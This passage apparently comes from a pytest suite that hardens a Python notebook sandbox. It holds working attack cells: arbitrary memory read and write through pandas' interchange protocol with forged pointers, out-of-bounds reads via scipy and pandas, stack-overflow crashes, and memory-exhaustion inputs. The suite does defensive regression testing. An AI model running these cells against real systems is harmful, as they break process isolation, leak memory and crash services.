    result = run_cell_in_child(SPARSE_OOB_CELL, report=("status", "ename", "returncode"), hard_exit=True)
    assert "crashed" not in result, f"the process died: {result}"
    assert result["status"] == "error", result


SPARSE_OOB_READS = {
    "constructed": "a = sp.csr_array((np.array([1.0]), np.array([5]), np.array([0, 1])), shape=(1, 2))\n",
    "indices_written_after": ("a = sp.csr_array((np.array([1.0]), np.array([0]), np.array([0, 1])), shape=(1, 2))\n"
                              "a.indices[0] = 5\n"),
}


@pytest.mark.parametrize("route", sorted(SPARSE_OOB_READS))
def test_sparse_products_do_not_read_out_of_bounds(sandbox, route):
    r = sandbox.run("import numpy as np, scipy.sparse as sp\n" + SPARSE_OOB_READS[route] +
                    "x = np.zeros(2)\nleaked = (a @ x)[0]\n")
    assert not r.ok, f"the product read past x: {sandbox.ns.get('leaked')!r}"


# --- N4-10: the dataframe interchange protocol reads any address the cell names ------------------------------
# pd.api.interchange.from_dataframe(obj) calls obj.__dataframe__() and, for each column, get_buffers(); for a
# primitive column pandas makes ctypes.cast(buffer.ptr, POINTER(c_int64)) and np.ctypeslib.as_array over it
# (pandas/core/interchange/from_dataframe.py, buffer_to_ndarray), then copies it into the DataFrame. The
# pointer is the cell's integer: the cell reads any address of the kernel's process. No ctypes object reaches
# the cell and the array is int64 over bytes, so neither the instance refusal nor ndarray's constructor guard
# sees it. Proof without a crash: the word after id(x) is ob_type, the address of type(x).

INTERCHANGE_READ_CELL = """
import pandas as pd, numpy as np
class Buffer:
    def __init__(self, ptr):
        self.ptr = ptr
        self.bufsize = 8
class Column:
    dtype = (0, 64, 'l', '=')
    offset = 0
    describe_null = (0, None)
    def __init__(self, ptr):
        self.address = ptr
    def size(self):
        return 1
    def get_buffers(self):
        return {'data': (Buffer(self.address), (0, 64, 'l', '=')), 'validity': None, 'offsets': None}
class Frame:
    metadata = {}
    def __init__(self, ptr):
        self.address = ptr
    def __dataframe__(self, nan_as_null=False, allow_copy=True):
        return self
    def num_chunks(self):
        return 1
    def get_chunks(self, n=None):
        return [self]
    def column_names(self):
        return ['c']
    def get_column_by_name(self, name):
        return Column(self.address)
    def num_columns(self):
        return 1
    def num_rows(self):
        return 1
victim = np.zeros(1)
word = int(pd.api.interchange.from_dataframe(Frame(id(victim) + 8))['c'][0])
read_the_type_pointer = word == id(type(victim))
"""


def test_dataframe_interchange_does_not_read_an_address_the_cell_names(sandbox):
    r = sandbox.run(INTERCHANGE_READ_CELL)
    assert sandbox.ns.get("read_the_type_pointer") is not True, "the cell read the kernel's memory"
    assert not r.ok, r


INTERCHANGE_WRITE_CELL = INTERCHANGE_READ_CELL + """
class NullableFloatColumn(Column):
    dtype = (2, 64, 'g', '=')
    describe_null = (4, 1)              # a byte mask, 1 = missing
    def __init__(self, ptr, mask_ptr):
        self.address, self.mask_address = ptr, mask_ptr
    def get_buffers(self):
        mask = Buffer(self.mask_address)
        return {'data': (Buffer(self.address), self.dtype), 'validity': (mask, (20, 8, 'C', '=')), 'offsets': None}
class NullableFrame(Frame):
    def get_column_by_name(self, name):
        return self.column
def read_word(address):
    return int(pd.api.interchange.from_dataframe(Frame(address))['c'][0])
target = np.array([1.5])
missing = np.array([1], dtype=np.uint8)
frame = NullableFrame(0)
frame.column = NullableFloatColumn(read_word(id(target) + 16), read_word(id(missing) + 16))
try:
    pd.api.interchange.from_dataframe(frame)
except Exception:
    pass
overwritten = bool(np.isnan(target[0]))
"""


def test_dataframe_interchange_does_not_write_to_an_address_the_cell_names(sandbox):
    r = sandbox.run(INTERCHANGE_WRITE_CELL)
    assert sandbox.ns.get("overwritten") is not True, "pandas wrote to the address the cell named"
    assert not r.ok, r


@pytest.mark.parametrize("validate", ["validate=False", "None, None, False", "dtype=None, validate=False"])
def test_categorical_codes_past_the_categories_do_not_read_out_of_bounds(sandbox, validate):
    """(FINDING N4-9 sibling, fixed: from_codes always validates while a cell runs.)"""
    r = sandbox.run("import pandas as pd, numpy as np\n"
                    "cat = pd.Categorical.from_codes([2, 3, 4, 5], pd.Index([1, 2], dtype='int64'), "
                    f"{validate})\nleaked = np.asarray(cat)\n")
    assert not r.ok, f"codes past the categories read memory: {sandbox.ns.get('leaked')!r}"


def test_bspline_construct_fast_does_not_read_past_its_coefficients(sandbox):
    r = sandbox.run("import numpy as np\nfrom scipy.interpolate import BSpline\n"
                    "knots = np.array([0., 0., 0., 0., 1., 1., 1., 1.])\n"
                    "leaked = BSpline.construct_fast(knots, np.array([1.0]), 3)(np.linspace(0, 1, 5))\n")
    assert not r.ok, f"evaluation read past the coefficients: {sandbox.ns.get('leaked')!r}"


def test_multiindex_codes_past_the_levels_are_checked_where_used(sandbox):
    r = sandbox.run("import pandas as pd, numpy as np\n"
                    "mi = pd.MultiIndex(levels=[pd.Index([1, 2], dtype='int64')], codes=[[0, 5, 6, 7]], "
                    "verify_integrity=False)\nleaked = np.asarray(mi.get_level_values(0))\n")
    assert r.error_name == "IndexError", r


# --- N4-11: hash() of a deeply nested tuple overflows the C stack -------------------------------------------------
# Pure Python, no library: a tuple nested a million deep is cheap to build in a loop (one tick per level, a
# few tens of MB), and CPython 3.11's tuplehash calls PyObject_Hash on its item without Py_EnterRecursiveCall
# (unlike repr, ==, isinstance). Any hashing use (hash(), a set, a dict key) recurses in C off the end of the
# stack: the kernel process dies at level none. The sandbox bounds map/zip nesting for the same reason.

NESTED_TUPLE_CELLS = {
    "hash": "t = ()\nfor i in range(1000000):\n    t = (t,)\nh = hash(t)\n",
    "set_member": "t = ()\nfor i in range(1000000):\n    t = (t,)\ns = {t}\n",
    "dict_key": "t = ()\nfor i in range(1000000):\n    t = (t,)\nd = {}\nd[t] = 1\n",
    "object_array_holding_itself_negated": "import numpy as np\na = np.empty(1, dtype=object)\na[0] = a\nr = -a\n",
    "object_array_holding_itself_abs": "import numpy as np\na = np.empty(1, dtype=object)\na[0] = a\nr = abs(a)\n",
    "object_array_holding_itself_added": "import numpy as np\na = np.empty(1, dtype=object)\na[0] = a\nr = a + a\n",
    # variants (added with the fix)
    "object_array_holding_itself_float": "import numpy as np\na = np.empty(1, dtype=object)\na[0] = a\nr = float(a)\n",
    "object_array_holding_itself_bool": "import numpy as np\na = np.empty(1, dtype=object)\na[0] = a\nr = bool(a)\n",
    "object_array_holding_itself_power": "import numpy as np\na = np.empty(1, dtype=object)\na[0] = a\nr = a ** 2\n",
    "object_array_holding_itself_sum": "import numpy as np\na = np.empty(2, dtype=object)\na[0] = a\na[1] = a\nr = a.sum()\n",
    "frozenset_of_nested_tuple": "t = ()\nfor i in range(1000000):\n    t = (t,)\ns = frozenset([t])\n",
}


# FINDING N4-11, fixed: tuple's hash and ndarray's number slots check the recursion depth (_numpyguard.c).
@pytest.mark.parametrize("route", sorted(NESTED_TUPLE_CELLS))
def test_hashing_a_deeply_nested_tuple_does_not_crash_the_process(route):
    result = run_cell_in_child(NESTED_TUPLE_CELLS[route], report=("status", "ename", "returncode"), hard_exit=True)
    assert "crashed" not in result, f"the process died: {result}"
    assert result["status"] == "error", result


# --- N4-12 (lesser): a deeply nested cell is an internal error --------------------------------------------------
# A cell whose expression nests a few thousand deep parses in CPython (its parser allows it) but the engine
# reports "the sandbox failed while it finished this cell" instead of the RecursionError/SyntaxError the same
# text gets through exec().

DEEP_CELLS = {
    "unary_minus": "x = " + "-" * 2900 + "1",
    "not_chain": "x = " + "not " * 2900 + "1",
    "long_sum": "x = 1" + " + 1" * 100000,
    "attribute_chain": "x = " + "a." * 5000 + "b",
}


# FINDING N4-12, fixed by f6579b1.
@pytest.mark.parametrize("route", sorted(DEEP_CELLS))
def test_a_deeply_nested_cell_is_not_an_internal_error(sandbox, route):
    r = sandbox.run(DEEP_CELLS[route])
    assert r.error_name != "SandboxInternalError", r
    assert sandbox.run("print(6 * 7)").stdout == "42\n"


def test_deeply_nested_text_through_exec_is_a_clean_error(sandbox):
    r = sandbox.run("exec('x = 1' + ' + 1' * 100000)")
    assert r.error_name == "RecursionError", r


def test_csv_dialects_and_field_size_limit_stay_in_the_engine():
    cell = "import csv\ncsv.register_dialect('excel', delimiter=';')\ncsv.field_size_limit(5)\n"
    probe = ("def probe_host(report):\n    import csv\n"
             "    report['delimiter'] = csv.get_dialect('excel').delimiter\n"
             "    report['limit'] = csv.field_size_limit()\n")
    result = run_cell_in_child(cell, report=("status",), probe=probe)
    assert result["status"] == "ok", result
    assert result["delimiter"] == "," and result["limit"] != 5, result


def test_nested_callable_iterators_are_a_recursion_error(sandbox):
    r = sandbox.run("import functools\nit = iter([1])\nfor i in range(300000):\n"
                    "    it = iter(functools.partial(next, it), None)\nv = next(it)\n")
    assert r.error_name == "RecursionError", r


@pytest.mark.parametrize("cell", ["s = '\\t'.expandtabs(3000000000)", "s = 'ab'.zfill(3000000000)",
                                  "s = bytearray(3000000000)", "s = 'a'.ljust(3000000000)",
                                  "s = '{:>3000000000}'.format(1)"])
def test_size_gates_hold(sandbox, cell):
    r = sandbox.run(cell)
    assert r.error_name == "SizeDenied", r


# --- N4-13: str.expandtabs is estimated by its tab size, not by tabs x tab size ----------------------------------
# The padding gate refuses expandtabs(n) when n alone is too large; a string of many tabs multiplies it. At the
# data-science policy's 2048 MB (one step may build 2 GB), 100 tabs x 300,000,000 is 30 GB that C allocates
# and fills at once: the memory sampler (every 50 ms) cannot stop it, and at level none there is no RLIMIT_AS.

EXPANDTABS_CELLS = {   # cell, the policy's memory limit (MB), the child's RLIMIT_AS (GB)
    "str": ("s = ('\\t' * 100).expandtabs(300000000)\n", 2048, 8),
    "bytes": ("s = (b'\\t' * 100).expandtabs(300000000)\n", 2048, 8),
    "re_sub_empty_pattern": ("import re\ns = re.sub('', 'x' * 1000000, 'a' * 10000)\n", 2048, 8),
    "str_split": ("s = 'ab ' * 60000000\nparts = s.split()\n", 512, 2),
    "str_splitlines": ("s = 'ab\\n' * 60000000\nparts = s.splitlines()\n", 512, 2),
    "unicodedata_normalize": ("import unicodedata\ns = unicodedata.normalize('NFKD', '\\ufdfa' * 30000000)\n", 512, 2),
}


SIZED_NOW = ("str", "bytes")   # expandtabs: estimated as len + tabs x tab size since this review


@pytest.mark.parametrize("route", sorted(EXPANDTABS_CELLS))
def test_expandtabs_is_sized_by_tabs_times_tab_size(route):
    """FINDING N4-13, fixed: expandtabs by the size gate; re.sub, split, splitlines and normalize by the bound
    on the interpreter's large allocations (_numpyguard.c: refused before C allocates, whatever code asks)."""
    cell, memory_mb, address_space_gb = EXPANDTABS_CELLS[route]
    result = run_cell_in_child(cell, limits={"timeout": 30, "memory_mb": memory_mb},
                               rlimits={"RLIMIT_AS": address_space_gb << 30}, report=("status", "ename", "evalue"),
                               timeout=120)
    if route in SIZED_NOW:
        assert result.get("ename") == "SizeDenied", result
    else:
        assert result.get("ename") == "MemoryLimitExceeded" and "refused before it was made" in result["evalue"], \
            result
